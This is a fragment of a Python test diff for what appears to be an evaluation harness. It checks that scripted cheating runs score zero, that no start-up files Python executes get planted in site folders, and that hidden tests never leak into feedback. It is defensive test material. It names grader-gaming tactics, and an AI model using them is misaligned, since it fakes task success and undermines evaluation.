+    assert run.score("lurker") == 0.0, run.row("lurker")
+
+
+def test_poison_site_plants_nothing(run):
+    run.require("poison_site")
+    planted = [str(folder / run.marks["site_file"]) for folder in site_dirs(run.home) | {REPO, REPO / "cnnkit"}
+               if (folder / run.marks["site_file"]).exists()]
+    assert not planted, f"files Python reads at start-up were planted: {planted}"
+    assert run.score("poison_site") == 0.0
+
+
+def test_leak_hidden_shows_no_hidden_test(run):
+    run.require("leak_hidden")
+    assert run.hidden_lines, "no hidden-test lines found in the source"
+    shown = {line: run.where(line, "leak_hidden", kinds=("feedback",)) for line in run.hidden_lines}
+    shown = {line: hits for line, hits in shown.items() if hits}
+    assert not shown, f"hidden tests in the feedback: {list(shown)[:5]}"
+    assert run.score("leak_hidden") == 0.0
